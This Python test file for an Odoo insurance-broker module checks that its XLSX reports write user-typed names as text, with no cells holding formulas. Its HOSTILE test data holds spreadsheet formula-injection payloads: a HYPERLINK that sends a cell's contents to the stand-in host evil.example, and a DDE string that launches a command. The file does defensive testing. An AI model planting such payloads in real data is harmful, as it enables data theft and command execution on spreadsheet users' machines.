import io
from datetime import timedelta

from openpyxl import load_workbook

from odoo import Command, fields
from odoo.tests import tagged

from .debtor_common import DebtorCommon

# Text users type, that a spreadsheet program would run as a formula (or
# turn into a link or a number) if it were written as one.
HOSTILE = {
    "insurer": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "client": "=cmd|' /C calc'!A0",
    "manager": "+1+1",
    "policy": "-2+3",
    "product": "@SUM(1)",
    "company": "=1+1",
}


@tagged("post_install", "-at_install")
class TestXlsxTypedText(DebtorCommon):
    """Every spreadsheet of the suite writes what users typed as text: names
    and numbers that read like formulas stay strings, and no cell holds a
    formula."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.name = HOSTILE["company"]
        cls.salesperson.name = HOSTILE["manager"]
        insurer = cls.env["res.partner"].create(
            {
                "name": HOSTILE["insurer"],
                "is_company": True,
                "is_insurer": True,
                "insurance_premium_collection": "broker",
            }
        )
        cls.env["insurance.commission.rule"].create(
            {
                "insurer_id": insurer.id,
                "business_type": "any",
                "rate": 10.0,
                "company_id": cls.company.id,
            }
        )
        product = cls.env["insurance.product"].create(
            {
                "name": HOSTILE["product"],
                "code": "HOSTILE",
                "category": "property",
                "default_term_months": 12,
                "product_id": cls.premium_product_casco.id,
                "company_id": cls.company.id,
            }
        )
        client = cls.env["res.partner"].create(
            {
                "name": HOSTILE["client"],
                "client_type": "individual",
                "client_manager_id": cls.salesperson.id,
                "company_id": cls.company.id,
            }
        )
        today = fields.Date.today()
        cls.date_start = today - timedelta(days=40)
        cls.policy = cls._create_policy(
            name=HOSTILE["policy"],
            partner_id=client.id,
            insurer_id=insurer.id,
            product_id=product.id,
            date_start=cls.date_start,
        )
        cls._create_premium_invoice(today - timedelta(days=40), 120.0, cls.policy)

    def _render(self, report, docids, data=None):
        content, report_type = self.env["ir.actions.report"]._render(
            report, docids, data or {}
        )
        self.assertEqual(report_type, "xlsx")
        return load_workbook(io.BytesIO(content))

    def assertTypedTextIsText(self, workbook, expected):
        """No cell of ``workbook`` holds a formula, and each ``expected``
        text is a string cell equal to it."""
        cells = [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        self.assertEqual(
            [
                f"{cell.parent.title}!{cell.coordinate}: {cell.value}"
                for cell in cells
                if cell.data_type == "f"
            ],
            [],
            "no cell may hold a formula",
        )
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        for key in expected:
            with self.subTest(text=key):
                self.assertIn(HOSTILE[key], texts)
                self.assertTrue(
                    all(
                        cell.data_type == "s"
                        for cell in cells
                        if cell.value == HOSTILE[key]
                    )
                )

    def test_commission_due_per_insurer(self):
        lines = self.policy.commission_line_ids
        self.assertTrue(lines)
        workbook = self._render("insurance_broker_account.commission_xlsx", lines.ids)
        self.assertTypedTextIsText(workbook, ("insurer", "policy", "client", "product"))

    def test_debtor_list(self):
        workbook = self._render(
            "insurance_broker_account.debtor_xlsx",
            None,
            {"domain": [("partner_id.name", "=", HOSTILE["client"])]},
        )
        self.assertTypedTextIsText(
            workbook, ("client", "manager", "product", "insurer")
        )

    def test_producer_statement(self):
        wizard = self.env["insurance.producer.statement.wizard"].create(
            {
                "date_from": self.date_start - timedelta(days=1),
                "date_to": fields.Date.today() + timedelta(days=400),
                "user_ids": [Command.set(self.salesperson.ids)],
            }
        )
        workbook = self._render(
            "insurance_broker_account.producer_statement_xlsx", wizard.ids
        )
        # The sheet is named after the producer, as typed.
        self.assertEqual(workbook.sheetnames, [HOSTILE["manager"]])
        self.assertTypedTextIsText(
            workbook,
            ("manager", "company", "policy", "client", "insurer", "product"),
        )

    def test_producer_names_excel_refuses_as_sheet_names(self):
        """Names Excel refuses as sheet names (apostrophes around, brackets,
        31 characters and more, the same name twice) still give a sheet."""
        names = ["'Quoted'", "[Brackets]: a/b", "O'Brien", "x" * 40, "O'Brien"]
        users = self.env["res.users"].create(
            [
                {
                    "name": name,
                    "login": f"xlsx_producer_{index}",
                    "company_id": self.company.id,
                    "company_ids": [Command.set(self.company.ids)],
                }
                for index, name in enumerate(names)
            ]
        )
        wizard = self.env["insurance.producer.statement.wizard"].create(
            {
                "date_from": "2026-01-01",
                "date_to": "2026-01-31",
                "user_ids": [Command.set(users.ids)],
            }
        )
        workbook = self._render(
            "insurance_broker_account.producer_statement_xlsx", wizard.ids
        )
        self.assertEqual(len(workbook.sheetnames), 5)
        self.assertIn("Quoted", workbook.sheetnames)
        self.assertEqual(
            sorted(sheet["B2"].value for sheet in workbook.worksheets), sorted(names)
        )

    def test_workbook_options(self):
        for report in ("commission_xlsx", "debtor_xlsx", "producer_statement_xlsx"):
            with self.subTest(report=report):
                options = self.env[
                    f"report.insurance_broker_account.{report}"
                ].get_workbook_options()
                self.assertTrue(options["constant_memory"])
                self.assertFalse(options["strings_to_formulas"])
                self.assertFalse(options["strings_to_urls"])
                self.assertFalse(options["strings_to_numbers"])
